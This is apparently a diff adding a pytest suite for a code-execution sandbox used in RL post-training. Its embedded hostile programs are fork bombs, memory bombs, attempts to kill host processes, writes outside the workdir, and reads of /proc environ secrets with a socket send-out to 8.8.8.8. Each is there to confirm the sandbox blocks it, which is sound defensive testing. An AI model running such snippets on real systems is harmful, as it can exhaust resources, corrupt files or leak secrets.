@@ -1,0 +1,259 @@
+"""Sandbox: limits, isolation and the worker pool, checked with hostile programs.
+
+Every hostile program runs with small limits. A test whose protection is missing on this
+machine is skipped with a reason that names the missing protection (never run unbounded).
+"""
+
+from __future__ import annotations
+
+import dataclasses
+import os
+import stat
+import sys
+import tempfile
+import time
+
+import pytest
+
+from posttrain.rl.sandbox import (
+    ExecResult, Job, Limits, Sandbox, Status, detect_isolation, python_job, shell_job,
+)
+
+SMALL = Limits(cpu_s=1, wall_s=3.0, memory_bytes=256 << 20, processes=16, file_bytes=1 << 20,
+               open_files=32, output_bytes=4096, disk_bytes=8 << 20)
+ISO = detect_isolation()
+
+
+def require(active: bool, gap: str) -> None:
+    """Skip, naming the missing protection, when the OS did not give it to us."""
+    if not active:
+        pytest.skip(f"protection missing on this machine: {gap}")
+
+
+@pytest.fixture(scope="module")
+def sandbox() -> Sandbox:
+    with Sandbox(SMALL, max_workers=2) as sb:
+        yield sb
+
+
+def run(sandbox: Sandbox, source: str, **kw) -> ExecResult:
+    return sandbox.run(python_job(source, **kw))
+
+
+def test_isolation_report_is_honest():
+    print(f"\nisolation: {ISO}\nmissing: {ISO.missing() or 'nothing'}")
+    if os.geteuid() == 0:
+        assert ISO.drop_uid, "as root every execution must get its own unprivileged uid"
+    assert bool(ISO.missing()) == (not (ISO.net_ns and ISO.pid_ns and ISO.mount_ns and ISO.process_limit))
+
+
+def test_pass_fail_and_output(sandbox):
+    ok = run(sandbox, "import sys; print('hello'); print('err', file=sys.stderr)")
+    assert ok.status is Status.PASS and ok.stdout == b"hello\n" and ok.stderr == b"err\n"
+    bad = run(sandbox, "raise SystemExit(3)")
+    assert bad.status is Status.FAIL and bad.exit_code == 3
+    crash = run(sandbox, "import os, signal; os.kill(os.getpid(), signal.SIGSEGV)")
+    assert crash.status is Status.CRASH and crash.exit_code == -11
+
+
+def test_files_stdin_env_and_workdir_cleanup(sandbox, monkeypatch):
+    monkeypatch.setenv("POSTTRAIN_TEST_SECRET", "hunter2")
+    src = ("import os, sys\nprint(os.getcwd())\nprint(open('data/in.txt').read())\n"
+           "print(repr(sys.stdin.read()))\nprint(sorted(os.environ))\nprint(os.getuid())")
+    res = run(sandbox, src, files={"data/in.txt": "payload"})
+    assert res.status is Status.PASS, res.stderr
+    cwd, content, stdin, env, uid = res.stdout.decode().splitlines()
+    assert content == "payload" and stdin == "''"  # stdin closed
+    assert "POSTTRAIN_TEST_SECRET" not in env and set(eval(env)) <= {"PATH", "HOME", "TMPDIR", "LANG", "LC_CTYPE"}
+    assert not os.path.exists(cwd), "the working directory must be deleted afterwards"
+    if ISO.drop_uid:
+        assert int(uid) not in (0, os.getuid())
+    fed = run(sandbox, "import sys; print(sys.stdin.read()[::-1])", stdin=b"abc")
+    assert fed.stdout == b"cba\n"
+
+
+def test_shell_command(sandbox):
+    res = sandbox.run(shell_job("echo $((6*7)); ls"))
+    assert res.status is Status.PASS and res.stdout == b"42\n"
+
+
+def test_infinite_loop_hits_cpu_limit(sandbox):
+    roomy = dataclasses.replace(SMALL, wall_s=15.0)  # 1 CPU-second may take a while on a busy machine
+    t = time.monotonic()
+    res = run(sandbox, "while True: pass", limits=roomy)
+    assert res.status is Status.LIMIT_EXCEEDED and res.limit == "cpu"
+    assert res.cpu_s >= SMALL.cpu_s and time.monotonic() - t < roomy.wall_s
+
+
+def test_sleeper_hits_wall_timeout(sandbox):
+    t = time.monotonic()
+    res = run(sandbox, "import time; print('start', flush=True); time.sleep(60)", limits=Limits(wall_s=1.0))
+    assert res.status is Status.TIMEOUT and res.stdout == b"start\n"
+    assert time.monotonic() - t < 2.5
+
+
+def test_memory_bomb(sandbox):
+    for src in ("x = bytearray(10**10)", "l = []\nwhile True: l.append(' ' * 10**7)"):
+        res = run(sandbox, src)
+        assert res.status is Status.LIMIT_EXCEEDED and res.limit == "memory", res
+
+
+def test_output_flood_is_truncated_and_killed(sandbox):
+    t = time.monotonic()
+    res = run(sandbox, "import sys\nwhile True: sys.stdout.write('x' * 1000)")
+    assert res.status is Status.LIMIT_EXCEEDED and res.limit == "output"
+    assert len(res.stdout) == SMALL.output_bytes and time.monotonic() - t < SMALL.wall_s
+
+
+def test_file_size_and_disk_limits(sandbox):
+    big = run(sandbox, "open('big', 'wb').write(b'x' * (2 << 20))")
+    assert big.status is Status.LIMIT_EXCEEDED and big.limit == "file_size"
+    require(ISO.mount_ns, "mount namespace (private size-limited working directory)")
+    many = run(sandbox, "for i in range(100):\n    open(f'f{i}', 'wb').write(b'x' * (900 << 10))")
+    assert many.status is Status.FAIL and b"No space left on device" in many.stderr
+
+
+def test_fork_bomb_is_bounded(sandbox):
+    require(ISO.process_limit, "per-execution process limit (needs a dedicated uid or a user namespace)")
+    src = ("import os, time\nn = 0\nfor _ in range(10000):\n    try:\n        if os.fork() == 0:\n"
+           "            time.sleep(30)\n            os._exit(0)\n        n += 1\n    except OSError:\n"
+           "        break\nprint(n, flush=True)\ntime.sleep(30)")
+    short = dataclasses.replace(SMALL, wall_s=1.5)
+    t = time.monotonic()
+    res = run(sandbox, src, limits=short)
+    assert res.status is Status.TIMEOUT and time.monotonic() - t < short.wall_s + 1
+    assert int(res.stdout) < SMALL.processes, "RLIMIT_NPROC did not stop the fork bomb"
+    hammer = run(sandbox, "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass", limits=short)
+    assert hammer.status in (Status.TIMEOUT, Status.LIMIT_EXCEEDED)
+
+
+def test_children_die_with_the_program(sandbox):
+    require(ISO.pid_ns, "PID namespace (processes that call setsid escape the process-group kill)")
+    marker = f"posttrain-escape-{os.getpid()}-{time.time_ns()}"
+    res = run(sandbox, f"import os, time\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(30)  # {marker}\n"
+                       "else:\n    print(os.getpid(), len([p for p in os.listdir('/proc') if p.isdigit()]))")
+    assert res.status is Status.PASS
+    pid, visible = map(int, res.stdout.split())
+    assert visible <= 4, "a private /proc shows only the sandbox's own processes"
+    time.sleep(0.2)
+    leftovers = [p for p in os.listdir("/proc") if p.isdigit() and _cmdline_has(p, marker)]
+    assert not leftovers, f"sandboxed processes outlived the run: {leftovers}"
+
+
+def _cmdline_has(pid: str, text: str) -> bool:
+    try:
+        with open(f"/proc/{pid}/cmdline", "rb") as f:
+            return text.encode() in f.read()
+    except OSError:
+        return False
+
+
+def test_network_is_unreachable(sandbox):
+    require(ISO.net_ns, "network namespace")
+    src = ("import socket\nfor addr in [('1.1.1.1', 53), ('127.0.0.1', 22), ('::1', 22)]:\n"
+           "    try:\n        socket.create_connection(addr, timeout=1)\n        print('CONNECTED', addr)\n"
+           "    except OSError as e:\n        print('blocked', e.errno)\n"
+           "print(len(socket.if_nameindex()), [n for _, n in socket.if_nameindex()])")
+    res = run(sandbox, src)
+    assert res.status is Status.PASS and b"CONNECTED" not in res.stdout, res.stdout
+
+
+def test_secrets_cannot_be_read_or_sent(sandbox, monkeypatch):
+    monkeypatch.setenv("POSTTRAIN_TEST_SECRET", "hunter2-secret")
+    src = (f"import os, socket\nseen = str(dict(os.environ))\n"
+           f"for p in ['/proc/1/environ', '/proc/{os.getpid()}/environ', '/proc/{os.getppid()}/environ']:\n"
+           "    try:\n        seen += open(p, 'rb').read().decode(errors='replace')\n"
+           "    except OSError:\n        pass\nprint(seen)\ntry:\n"
+           "    socket.create_connection(('8.8.8.8', 80), timeout=1).sendall(seen.encode())\n    print('SENT')\n"
+           "except OSError:\n    pass")
+    res = run(sandbox, src)
+    assert b"hunter2-secret" not in res.stdout + res.stderr
+    if ISO.net_ns:
+        assert b"SENT" not in res.stdout
+
+
+def test_writing_outside_the_workdir_changes_nothing(sandbox):
+    require(ISO.mount_ns, "mount namespace (read-only filesystem outside the working directory)")
+    outside = tempfile.mkdtemp(prefix="posttrain-outside-")
+    try:
+        os.chmod(outside, 0o777)  # world-writable: only the sandbox's read-only mounts protect it
+        sentinel = os.path.join(outside, "sentinel")
+        with open(sentinel, "w") as f:
+            f.write("original")
+        os.chmod(sentinel, 0o666)
+        before = _snapshot(outside)
+        src = (f"import os, shutil\nfor act in [lambda: open({sentinel!r}, 'w').write('pwned'),\n"
+               f"            lambda: os.remove({sentinel!r}),\n"
+               f"            lambda: open(os.path.join({outside!r}, 'new'), 'w').write('x'),\n"
+               "            lambda: open('/tmp/posttrain-pwned', 'w').write('x'),\n"
+               f"            lambda: open({os.path.abspath(__file__)!r}, 'a').write('# pwned'),\n"
+               "            lambda: os.symlink('/etc', 'etc') or open('etc/pwned', 'w').write('x')]:\n"
+               "    try:\n        act()\n        print('WROTE')\n"
+               "    except OSError as e:\n        print('denied', e.errno)")
+        res = run(sandbox, src)
+        assert res.status is Status.PASS, res.stderr
+        assert b"WROTE" not in res.stdout, res.stdout
+        assert _snapshot(outside) == before
+        assert not os.path.exists("/tmp/posttrain-pwned") and not os.path.exists("/etc/pwned")
+    finally:
+        if os.path.exists("/tmp/posttrain-pwned"):
+            os.remove("/tmp/posttrain-pwned")
+        for name in os.listdir(outside):
+            os.remove(os.path.join(outside, name))
+        os.rmdir(outside)
+
+
+def _snapshot(folder: str) -> dict[str, bytes]:
+    return {name: open(os.path.join(folder, name), "rb").read() for name in sorted(os.listdir(folder))}
+
+
+def test_killing_the_host_fails_and_host_survives(sandbox):
+    require(ISO.pid_ns and (ISO.drop_uid or ISO.user_ns),
+            "PID namespace plus own uid (without them kill(-1) could hit the host user's processes)")
+    src = (f"import os, signal\nfor target in [{os.getpid()}, {os.getppid()}, 1, -1, 0]:\n    try:\n"
+           "        os.kill(target, signal.SIGKILL)\n"
+           "    except OSError as e:\n        print('denied', target, e.errno)")
+    res = run(sandbox, src)
+    assert res.status in (Status.CRASH, Status.PASS)  # kill(0/-1) may take the program itself down
+    assert os.getppid() > 1 and run(sandbox, "print('alive')").stdout == b"alive\n"
+
+
+def test_pool_runs_jobs_concurrently_and_bounded():
+    jobs = [python_job("import time; time.sleep(0.4)") for _ in range(8)]
+    with Sandbox(SMALL, max_workers=4) as sb:
+        t = time.monotonic()
+        results = sb.map(jobs)
+        elapsed = time.monotonic() - t
+    assert all(r.status is Status.PASS for r in results)
+    assert 0.8 <= elapsed < 3.2, f"8 x 0.4 s sleeps on 4 workers took {elapsed:.2f} s"
+
+
+def test_infrastructure_failures_are_retried_program_failures_are_not(sandbox):
+    broken = sandbox.run(Job(argv=("/nonexistent/interpreter",)))
+    assert broken.status is Status.ERROR and broken.attempts == sandbox.retries + 1 and broken.error
+    failing = run(sandbox, "raise ValueError('mine')")
+    assert failing.status is Status.FAIL and failing.attempts == 1
+
+
+def test_bad_input_is_named():
+    with pytest.raises(ValueError, match="cpu_s"):
+        Limits(cpu_s=0)
+    with pytest.raises(ValueError, match="escapes"):
+        Sandbox(SMALL).run(Job(argv=(sys.executable,), files={"../x": "y"}))
+    with pytest.raises(ValueError, match="not found"):
+        Sandbox(SMALL).run(Job(argv=("no-such-program-xyz",)))
+
+
+def test_world_executable_check():
+    from posttrain.rl.sandbox import _others_can_run
+    assert _others_can_run("/bin/sh")
+    private = tempfile.mkdtemp()
+    try:
+        os.chmod(private, 0o700)
+        exe = os.path.join(private, "tool")
+        open(exe, "w").close()
+        os.chmod(exe, stat.S_IRWXU | stat.S_IRWXO)
+        assert not _others_can_run(exe)
+    finally:
+        os.remove(exe)
+        os.rmdir(private)
